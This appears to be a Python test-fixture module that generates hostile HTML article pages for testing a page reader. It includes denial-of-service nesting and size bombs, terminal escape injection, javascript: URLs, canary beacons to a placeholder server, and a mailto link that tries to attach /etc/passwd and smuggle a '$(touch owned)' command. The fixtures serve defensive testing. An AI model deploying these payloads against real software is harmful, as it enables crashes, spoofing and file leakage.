"""Cases of article pages: what a page can do to the one who reads it, or to what reads it for them."""

from collections.abc import Callable, Iterator
from typing import Final

from tests.hostile.matrix import EITHER, HTML, Case, Surface

SENTENCE: Final = "The harbour council voted on Tuesday to rebuild the eastern pier after two winters of storms left it loose. "
FAMILY: Final = "\U0001f468\u200d\U0001f467"
SYLLABLE: Final = "\ud55c"
PROSE: Final = f"<p>{SENTENCE * 2}</p>" * 4


def page(*, inner: str = "", title: str = "Council votes to rebuild the pier", head: str = "", after: str = "") -> bytes:
    """An article with something in it."""
    top = f"<!doctype html><html lang=en><head><meta charset=utf-8><title>{title}</title>{head}</head>"
    return f"{top}<body><article><h1>{title}</h1>{PROSE}{inner}</article>{after}</body></html>".encode("utf-8", "surrogatepass")


def cards(number: int) -> str:
    """A list of so many offers."""
    card = (
        '<li><a href="/news/2026/03/{0}-a-story-of-the-town"><h3>A story of the town, number {0}</h3></a><p>Teaser {0}.</p></li>'
    )
    return f"<section><h2>Related</h2><ul>{''.join(card.format(n) for n in range(number))}</ul></section>"


def ld(script: str) -> str:
    """Linked data."""
    return f'<script type="application/ld+json">{script}</script>'


_PAGES: Final[dict[Surface, dict[str, Callable[[], bytes]]]] = {
    "body": {
        "100,000 deep": lambda: page(inner="<div>" * 100_000 + "x"),
        "inline tags 20,000 deep": lambda: page(inner="<b><i>" * 10_000 + "x"),
        "tables 5,000 deep": lambda: page(inner="<table><tr><td>" * 5_000 + "x"),
        "lists 20,000 deep": lambda: page(inner="<ul><li>" * 20_000 + "x"),
        "quotes 20,000 deep": lambda: page(inner="<blockquote>" * 20_000 + "x"),
        "a table of 10^9 columns": lambda: page(inner='<table><tr><td colspan="999999999" rowspan="999999999">x</table>'),
        "a list from 10^9999": lambda: page(inner=f'<ol start="{"9" * 9_999}"><li>x</ol>'),
        "20,000 attributes": lambda: page(inner="<p " + " ".join(f'a{n}="1"' for n in range(20_000)) + ">x</p>"),
        "an attribute of 5 MB": lambda: page(inner=f'<p class="{"c " * 2_500_000}">x</p>'),
        "2 MB of angle brackets": lambda: page(inner="<" * 2_000_000),
        "2 MB of ampersands": lambda: page(inner="&" * 2_000_000),
        "100,000 links that never end": lambda: page(inner="<a href='" * 100_000),
        "comments that never end": lambda: page(inner="<!--" * 300_000),
        "200,000 comments in an attribute": lambda: page(head=f'<meta name="description" content="{"<!-- " * 200_000}">'),
        "20,000 authors": lambda: page(
            inner='<p class="byline">' + "".join(f"<a rel=author>Ada{n}</a>" for n in range(20_000)) + "</p>"
        ),
        "a word of 60,000 families": lambda: page(inner=f"<p>{FAMILY * 60_000}</p>"),
        "a word of 200,000 syllables": lambda: page(inner=f"<p>{SYLLABLE * 200_000}</p>"),
        "5,000 cards": lambda: page(after=cards(5_000)),
        "60,000 paragraphs": lambda: page(inner="<p>x</p>" * 60_000),
        "one word of 6 MB": lambda: page(inner=f"<p>{'w' * (6 << 20)}</p>"),
        "100,000 spans": lambda: page(inner="<p>" + "<span>a</span> " * 100_000),
        "SVG and MathML": lambda: page(inner="<svg><foreignObject><math><mtext>" * 2_000 + "<script>alert(1)</script>"),
        "templates": lambda: page(inner="<template>" * 5_000 + "x"),
        "a script, a frame, a form, a refresh": lambda: page(
            head='<meta http-equiv="refresh" content="0;url=http://SERVER/canary"><link rel="stylesheet" href="http://SERVER/canary">'
            '<link rel="preload" href="http://SERVER/canary" as="font"><link rel="icon" href="http://SERVER/canary">',
            inner="<script src='http://SERVER/canary'></script><iframe src='http://SERVER/canary'></iframe>"
            "<img src='http://SERVER/canary' srcset='http://SERVER/canary 2x'><video poster='http://SERVER/canary'></video>"
            "<object data='http://SERVER/canary'></object><audio src='http://SERVER/canary' autoplay></audio>",
        ),
        "linked data 100,000 deep": lambda: page(head=ld("[" * 100_000)),
        "linked data of huge numbers": lambda: page(head=ld(f'{{"@type":"NewsArticle","datePublished":{"9" * 10_000}}}')),
        "linked data of half characters": lambda: page(
            head=ld('{"@type":"NewsArticle","articleBody":"\\ud800 x","headline":"\\udc00"}')
        ),
        "5,000 pieces of linked data": lambda: page(head=ld('{"@type":"NewsArticle","headline":"x"}') * 5_000),
        "20,000 meta tags": lambda: page(head='<meta property="article:tag" content="t">' * 20_000),
        "dates of 10,000 digits": lambda: page(
            head=f'<meta property="article:published_time" content="{"9" * 10_000}">',
            inner=f"<time datetime='{'1-' * 9_999}'>x</time>",
        ),
        "NULs": lambda: page(inner=f"<p>{SENTENCE}\0{SENTENCE}</p>"),
        "UTF-16 said to be UTF-8": lambda: page().decode().encode("utf-16"),
        "a charset that runs": lambda: page(head='<meta charset="unicode_escape">'),
        "nothing but blanks": lambda: b"\n" * 4_000_000,
        "a picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(100_000),
        "entities without end": lambda: page(inner="&lt;" * 500_000),
    },
    "title": {
        "escapes": lambda: page(title="before \x1b[2J\x9b31m\u202e\x1b]0;owned\x07 after"),
        "escapes as references": lambda: page(title="before &#27;[2J&#x9b;31m&#x202e; after"),
        "5 MB": lambda: page(title="t" * 5_000_000),
        "100,000 of them": lambda: page(head="<title>x</title>" * 100_000),
        "an author of 1 MB": lambda: page(head=f'<meta name="author" content="{"a" * 1_000_000}">'),
    },
    "url": {
        "a base that is a script": lambda: page(head='<base href="javascript:alert(1)//">', after=cards(9)),
        "links that are scripts": lambda: page(
            inner="<p><a href='javascript:alert(1)'>x</a> <a href='data:text/html,x'>y</a></p>"
        ),
        "mail that brings along": lambda: page(
            inner="<p><a href='mailto:a@b.example?bcc=spy@c.example&attach=/etc/passwd&body=$(touch owned)'>write</a></p>"
        ),
        "mail of escapes": lambda: page(inner="<p><a href='mailto:a@b.example\x1b]8;;x\x07\x9b31m\u202e'>write</a></p>"),
        "mail to an option": lambda: page(inner="<p><a href='mailto:--help'>x</a> <a href='mailto:-v@b.example'>y</a></p>"),
        "20,000 mails": lambda: page(inner="<a href='mailto:a@b.example'>x</a> " * 20_000),
        "mail of 1 MB": lambda: page(inner=f"<p><a href='mailto:{'a@' * 500_000}b.example'>here</a></p>"),
        "a canonical that is a script": lambda: page(head='<link rel="canonical" href="javascript:alert(1)">'),
        "a canonical on another host": lambda: page(head='<link rel="canonical" href="http://127.0.0.2:1/stolen">'),
        "a picture that is a script": lambda: page(head='<meta property="og:image" content="javascript:alert(1)">'),
        "links of escapes": lambda: page(inner="<p><a href='http://h.example/\x1b]8;;x\x07\x9b31m'>here</a></p>"),
        "links of 1 MB": lambda: page(inner=f"<p><a href='http://h.example/{'a' * 1_000_000}'>here</a></p>"),
    },
    "json": {
        "escapes in everything": lambda: page(
            title="before \x1b[2J\u2028\u202e after", inner=f"<pre>\x9b31m\u2029</pre><p>{SENTENCE}\x1b]0;owned\x07</p>"
        ),
    },
}


def page_cases() -> Iterator[Case]:
    """All of them."""
    for surface, table in _PAGES.items():
        for name, body in table.items():
            yield Case(name=name, attack="pages", surface=surface, body=body, kind=HTML, outcomes=EITHER)
